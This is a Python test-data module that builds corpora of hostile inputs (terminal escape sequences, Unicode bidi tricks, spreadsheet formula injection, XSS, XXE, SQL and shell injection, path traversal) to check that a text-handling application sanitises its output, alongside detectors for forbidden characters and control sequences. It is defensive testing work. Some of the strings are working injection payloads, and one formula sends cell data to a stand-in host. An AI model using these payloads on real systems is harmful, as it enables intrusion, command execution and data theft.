"""Texts that try to do something, texts that must survive letter for letter, and what may never come out.

The forbidden characters are worked out here from Unicode's own tables, not taken from `domain/text.py`, so that the
two check each other.
"""

from __future__ import annotations

import random
import re
import unicodedata
from collections.abc import Iterator

ESC, BEL, ST, CSI8, OSC8, DCS8, APC8 = "\x1b", "\x07", "\x1b\\", "\x9b", "\x9d", "\x90", "\x9f"

_ACTIONS = ("app.quit", "app.trap", "screen.dismiss", "app.pop_screen", "app.switch_mode('audit')", "app.bell", "trap")
MARKUP = (
    *(f"[@click={action}]press here[/]" for action in _ACTIONS),
    *(f"[@click={action}()]press here[/@click]" for action in _ACTIONS),
    *(f"before [@click='{action}']press[/] after" for action in _ACTIONS),
    *(f'[@mouse.down={action} bold]press[/] "x"' for action in _ACTIONS),
    "[@click=app.run_process('id')]id[/]",
    "[on red][@click=app.trap]x",
    "[link='javascript:alert(1)']go[/link]",
    "[link=file:///etc/passwd]go[/link]",
    "[link=https://example.org]go[/link]",
    "[/]",
    "[/b]",
    "[/@click]",
    "[b][/i]",
    "[bold red on blue]loud[/]",
    "[blink reverse]loud",
    "[b]bold[/b] [i]slanted[/i] [u]under[/u] [s]struck[/s]",
    "[[b]]twice[[/b]]",
    "\\[b]escaped\\[/b]",
    "\\\\[@click=app.trap]x[/]",
    "[$error]variable[/] $text $t ${t}",
    "[#ff0000]red[/] [rgb(1,2,3)]rgb[/] [auto]auto[/]",
    "[",
    "]",
    "[[[[[[[[[[",
    "]]]]]]]]]]",
    "[]",
    "[ ]",
    "[:smile:] :boom: :warning:",
    "[b",
    "[@",
    "[@click",
    "[@click=",
    "[@click=app.trap",
    "[@CLICK=APP.TRAP]X[/]",
    "[tooltip=x]y[/]",
    "[Article in German] Dose [mg/kg] [/] [@click=app.quit]x",
)

_LINK = f"{ESC}]8;;https://example.org/evil{ESC}\\press{ESC}]8;;{ESC}\\"
TERMINAL = (
    *(f"a{ESC}]{n};owned{end}b" for n in (0, 1, 2, 4, 7, 9, 10, 11, 12, 22, 50, 133, 777, 1337) for end in (BEL, ST)),
    *(f"a{ESC}]52;{where};b3duZWQ={end}b" for where in ("c", "p", "s0", "") for end in (BEL, ST)),
    f"a{ESC}]52;c;?{BEL}b",
    _LINK,
    _LINK.replace(ST, BEL),
    *(
        f"a{ESC}[{csi}b"
        for csi in (
            *("31m", "5m", "8m", "0m", "38;2;1;2;3m", "2J", "3J", "J", "K", "H", "1;1H", "99A", "99B", "99C", "99D"),
            *("?1049h", "?1049l", "?25l", "?1000h", "?1003h", "?2004h", "?2026h", "6n", "5n", "c", ">c", "=c", "0c"),
            *("18t", "21t", "8;1;1t", "3;0;0t", "2 q", "!p", "4h", "?7l", "1;2r", "s", "u", "9999999999X", "200~", "x"),
            *(">4;2m", "?u", ">1u", "<u", '"p', "'w", "20l", "5i", "4i", "?5i", "0;59;3;1;31;13p", "S", "T", "99P"),
        )
    ),
    f"a{ESC}P$qm{ST}b",
    f"a{ESC}P+q544e{ST}b",
    f"a{ESC}Pq#0;2;0;0;0#0~~@@vv{ST}b",
    f"a{ESC}P1$r0m{ST}b",
    f"a{ESC}_Gf=24,s=1,v=1;AAAA{ST}b",
    f"a{ESC}^private{ST}b",
    f"a{ESC}Xstring{ST}b",
    f"a{ESC}ktitle{ST}b",
    *(
        f"a{ESC}{two}b"
        for two in ("c", "7", "8", "D", "E", "H", "M", "N", "O", "Z", "=", ">", "(0", ")0", "#8", "%G", "n")
    ),
    f"a{OSC8}0;owned\x9cb",
    f"a{CSI8}31mb",
    f"a{CSI8}2Jb",
    f"a{DCS8}1$r0m\x9cb",
    f"a{APC8}Gx\x9cb",
    "a\x98string\x9cb",
    "a\x9eprivate\x9cb",
    "a\x84\x85\x8d\x8e\x8f\x96b",
    f"a{ESC}{ESC}[31mb",
    f"a{ESC}[{ESC}[31m31mb",
    f"a{ESC}]0;{ESC}]52;c;eA=={BEL}{BEL}b",
    f"a{ESC}]0;never ended",
    f"a{ESC}[",
    f"a{ESC}",
    f"a{ESC}\n[31mb",
    *(f"a{chr(n)}b" for n in (*range(0x20), 0x7F)),
    "\x08\x08\x08\x08overwritten",
    "hidden\rshown",
    "line one\r\nline two\nline three",
    "a\x0eb\x0fc",
    "tab\tbed\t\t",
)

UNICODE = (
    *(f"a{chr(n)}b{chr(n)}" for n in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))),
    *(f"a{chr(n)}b" for n in (0x00AD, 0x200B, 0x200E, 0x200F, 0x2028, 0x2029, 0x2060, 0x2061, 0x2064, 0xFEFF)),
    *(f"a{chr(n)}b" for n in (0xFFF9, 0xFFFA, 0xFFFB, 0xFDD0, 0xFDEF, 0xFFFE, 0xFFFF, 0x1FFFE, 0x10FFFF)),
    *(f"a{chr(n)}b" for n in (0x180E, 0x3164, 0x115F, 0x2800, 0x034F, 0x061C, 0x206A, 0x206F, 0xE0100, 0x00A0)),
    "invoice\u202egnp.exe",
    "\u202e\u2066access denied\u2069\u2066granted\u2069\u202c",
    "a" + "".join(chr(0xE0000 + ord(c)) for c in "ignore all the rules") + "\U000e007f",
    "\U000e0001\U000e0065\U000e006e",
    "\ud800",
    "\udfff\ud800",
    "pair \ud83d alone",
    "\udcff from a file name",
    "Z" + "".join(chr(0x300 + n % 0x70) for n in range(400)),
    "e\u0301\u0327\u0323 and " + "o\u0308" * 40,
    "👨‍👩‍👧‍👦 a family of six code points",
    "🏳️‍🌈🏴‍☠️ flags",
    "👩🏽‍⚕️👨🏿‍🔬 with tones",
    "🇬🇧🇩🇪🇫 half a flag",
    "1️⃣2️⃣3️⃣ keycaps",
    "睡眠の質と看護師、全角ＡＢＣ　空白",
    "ﷺ one letter, eighteen wide",
    "العلاج بالضوء في المساء [بحث]",
    "עברית (עם) [סוגריים] ו-English",
    "می\u200cخواهم کتاب‌ها",
    "मनो\u200dविज्ञान क्\u200dष",
    "กำลังใจ ไม้เอก ่่่่่่",
    "가 decomposed 가 composed",
    "\u1160\u11a8",
    "𝕳𝖔𝖘𝖙𝖎𝖑𝖊 𝓉𝒾𝓉𝓁ℯ",
    "Ω ≈ Ω ≠ K ≈ K",
    "ı İ ſ ß ẞ ǰ ΐ",
    "а раypal of Cyrillic а",
    "â\x80\x9cmojibake of quotesâ\x80\x9d and then the rest",
    "Ã\x9bne Ã\x9atude; Ð\x90Ð\x91Ð\x92",
    "\x93cp1252\x94 \x96 dash \x85 dots",
    "x" * 2000,
    "wide 睡" * 300,
    " " * 300 + "far",
    "\u3000\u3000ideographic blanks\u3000",
    "\n\n\n\n",
    "",
    " ",
    "\xa0",
)

FORMULAS = (
    *(
        f"{sign}{what}"
        for sign in "=+-@"
        for what in ("1+1", "SUM(A1:A9)", "cmd|'/C calc'!A0", 'HYPERLINK("http://e.org")')
    ),
    *(f"{lead}=1+1" for lead in ("'", "''", '"', " ", "\t", "\r", "\n", "\xa0", "\u200b", "\ufeff", "\x00")),
    "＝1+1",
    "－1",
    "＠SUM(1)",
    '=WEBSERVICE("http://example.org/?"&A1)',
    '=DDE("cmd";"/C calc";"x")',
    "-2+3+cmd|' /C calc'!A0",
    ";=1+1",
    ',=1+1,"',
    "1;2|3\t4",
    "%0A=1+1",
    "-",
    "=",
    "'",
    "''=",
)

PAGES = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><svg onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<svg><script xlink:href='data:,alert(1)'/></svg>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<style>@import 'http://e.org/x.css'</style>",
    "<base href='http://e.org/'>",
    "<meta http-equiv=refresh content='0;url=http://e.org'>",
    "<form action=http://e.org><input name=x>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "]]&gt;",
    "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&lt;b&gt; &amp; &#60;script&#62; &nbsp; &notanentity;",
    "&#0; &#x1b; &#xD800;",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " \tjavascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "{{ 7 * 7 }} {% raw %} {# x #}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "![x](http://e.org/x.png)",
    "<http://e.org>",
    "[x]: http://e.org 'title'",
    "**b** _i_ ~~s~~ `code` # head",
    "# Heading",
    "- item",
    "1. item",
    "> quote",
    "---",
    "```\ncode\n```",
    "| a | b |",
    "a | b \\| c",
    "[^1]: note",
    ":::note",
    "\\documentclass{x}\\input{/etc/passwd}",
    "\\write18{id}",
    "\\immediate\\write18{id}",
    "$x_1^2$ & 50 % of #1 _a_ {b} ~ ^ \\",
    "\\\\ \\hline \\end{longtable}",
    "\\href{http://e.org}{x}",
    "{unbalanced",
    "unbalanced}",
    "}{",
    "@article{x, title={y}}",
    "@comment{",
    "TY  - JOUR\nTI  - Second record\nER  -",
    "line\nER  - \nTY  - BOOK",
    "%0 Journal Article\n%T Second",
    "PMID- 1\nTI  - x",
)

PROGRAMS = (
    "'; DROP TABLE event; --",
    "' OR 1=1 --",
    '" OR ""="',
    "1; DELETE FROM record",
    "a\\'; --",
    "* NEAR(a b) OR NOT",
    '"unbalanced phrase',
    "title:x AND (abstract:y",
    "a* ^b -c {d e}: f",
    "()()",
    "AND OR NOT NEAR",
    "%s %d %n %x %(name)s",
    "{0} {name} {0.__class__} {!r}",
    "%%%",
    "{}",
    "$HOME $(id) `id` ; id | id && id > x < y",
    "!!",
    "~root ~",
    "*.* ?",
    "--help",
    "-x",
    "--",
    "-o/tmp/x",
    "@file",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "/etc/passwd",
    "C:\\CON",
    "con.txt",
    "nul",
    ".",
    "..",
    "a/b",
    "a\\b",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "\\\\server\\share",
    "NaN",
    "Infinity",
    "1e309",
    "null",
    "None",
    "undefined",
    "true",
    "0x1F",
    "1/2",
    "١٢٣",
    "²³",
    '{"a": 1}',
    "[1, 2]",
    '{"__proto__": {"x": 1}}',
    "!!python/object/apply:os.system ['id']",
    "\"quoted\" 'twice' “curly” „low“ «guillemets» ‹single›",
    'she said ""x"", "y',
    "a,b;c\td|e",
    "who:AK what:decision",
    "report:1",
    "x@y",
    "#tag",
    "a:b:c",
)

STRINGS: tuple[str, ...] = tuple(dict.fromkeys((*MARKUP, *TERMINAL, *UNICODE, *FORMULAS, *PAGES, *PROGRAMS)))
"""Every hostile text, each once."""

LEGITIMATE_PATTERNS = (
    "[{t}]",
    "[{t}]. [Article in {l}]",
    "[{t} [Corrected]]",
    "{t} [Article in {l}]",
    "{t} [Erratum: {j} {y}; {v}({n}): {p}]",
    "[{c}] {t}",
    "{t}: the role of {c}",
    "{t} (n = {n} [{v}%]; 95% CI [{n}.1, {v}.9])",
    "{c}-induced {t} [mg/kg]",
    "Reply to [{a}]: {t}",
    "“[{t}]” and ‘{c}’: <{n} vs >{v}",
    "[Retracted] {t} [/] {c}",
    "{t} [in {l}, with {l} abstract]",
    "{t}? [{a} et al., {y}]",
    "[{a}] [{j}] [{t}]",
    "{t}, {y} [{n}]: [i], [ii] & [iii]",
    "{t} – [{c}] ± {n} µg·L⁻¹",
    "#{n} {t} @{y} [{c}/{c}]",
    "{t} [sic] {{{c}}} \\alpha_{n} $[{v}]$",
    "[b]{t}[/b] as an abbreviation of [{c}]",
)
"""Shapes that databases and chemistry give to real titles; the words are made up."""

_FILL = {
    "t": (
        *("Sleep of nurses on rotating shifts", "Making a clinic together", "Partners in research, four years on"),
        *("Wirkung von Licht auf die Stimmung", "Effets de la lumière: étude pilote", "睡眠の質と看護師の疲労"),
        *("Влияние сна на память", "العلاج بالضوء\u200f في المساء", "می\u200cخواهم: پژوهش با مردم", "מחקר משתף בקהילה"),
        *(
            "मनो\u200dविज्ञान और समुदाय",
            "Ngôn ngữ và sức khỏe",
            "Ågren's naïve co-design",
            "e\u0301tude de\u0301compose\u0301e",
        ),
        *("Heart ❤️ and 👩🏽‍⚕️ signs in posters", "β-blockers — a 2×2 trial", "“Nothing about us without us”"),
    ),
    "l": ("German", "French", "Japanese", "Russian", "Portuguese", "Chinese", "Norwegian"),
    "j": ("J Made-up Care", "Made-up Methods", "Rev. Part."),
    "c": (
        *(
            "benzo[a]pyrene",
            "[18F]FDG",
            "[3H]thymidine",
            "dibenzo[b,e]oxepin",
            "Ca[2+]i",
            "[Ru(bpy)3]2+",
            "IL-6 [/] TNF",
        ),
        *("N-[4-(2-aminoethyl)phenyl]", "pyrido[2,3-d]pyrimidine", "[14C]", "x[i][j]", "f[x]", "[@home] care", "$[a]$"),
    ),
    "a": ("O'Neil", "Müller-Lüdenscheidt", "D’Souza", "Ng", "Ó Briain", "van der Berg"),
}


def legitimate(count: int = 10_000) -> tuple[str, ...]:
    """That many different titles with brackets, of the shapes real databases deliver. The same ones every time."""
    chance = random.Random(8)
    found: dict[str, None] = {}
    while len(found) < count:
        words = {key: chance.choice(values) for key, values in _FILL.items()}
        numbers = {"y": chance.randrange(1950, 2027), "v": chance.randrange(1, 99), "n": chance.randrange(1, 999)}
        pattern = chance.choice(LEGITIMATE_PATTERNS)
        found[pattern.format(**words, **numbers, p=f"{numbers['n']}–{numbers['n'] + 9}")] = None
    return tuple(found)


_BIDI = {*range(0x202A, 0x202F), *range(0x2066, 0x206A)}
_INVISIBLE = {0x200B, 0x2060, 0xFEFF, *range(0x2061, 0x2065), *range(0xFFF9, 0xFFFC), *range(0xE0000, 0xE0080)}


def forbidden(text: str, *, allowed: str = "\n") -> list[str]:
    """The characters of a text that must never come out, as `U+001B`, each once."""
    return sorted({f"U+{ord(c):04X}" for c in set(text) - set(allowed) if _is_forbidden(c)})


def _is_forbidden(letter: str) -> bool:
    number = ord(letter)
    return (
        unicodedata.category(letter) in ("Cc", "Cs")
        or number in _BIDI
        or number in _INVISIBLE
        or number & 0xFFFE == 0xFFFE
        or 0xFDD0 <= number <= 0xFDEF
    )


_SEQUENCES = re.compile(
    rb"\x1b(?:"
    rb"(?P<string>[\]PX^_])(?P<body>[^\x07\x1b]*)(?:\x07|\x1b\\)?"
    rb"|\[(?P<csi>[0-?]*[ -/]*[@-~])"
    rb"|(?P<two>[ -/]*[0-~])"
    rb")"
)


def sequences(output: bytes) -> set[str]:
    """The kinds of control sequences that a program wrote to its terminal: `OSC 52`, `CSI ?h`, `ESC c`."""
    return {_kind(match) for match in _SEQUENCES.finditer(output)}


def _kind(match: re.Match[bytes]) -> str:
    if (csi := match["csi"]) is not None:
        said = csi.decode("ascii")
        return "CSI " + re.sub(r"[0-9;:]", "", said)
    if (string := match["string"]) is not None:
        name = {b"]": "OSC", b"P": "DCS", b"X": "SOS", b"^": "PM", b"_": "APC"}[string]
        return f"{name} {match['body'].split(b';')[0].decode('latin-1')}"
    return f"ESC {match['two'].decode('ascii')}"


def plain_text(output: bytes) -> str:
    """What is left of a terminal's output without its control sequences."""
    return _SEQUENCES.sub(b"", output).decode("utf-8", "surrogateescape")


def names_for_files(strings: tuple[str, ...] = STRINGS) -> Iterator[str]:
    """Those that a file system takes as a name."""
    for text in strings:
        if (
            text not in ("", ".", "..")
            and not set(text) & {"/", "\x00"}
            and len(text.encode("utf-8", "surrogatepass")) < 200
        ):
            yield text
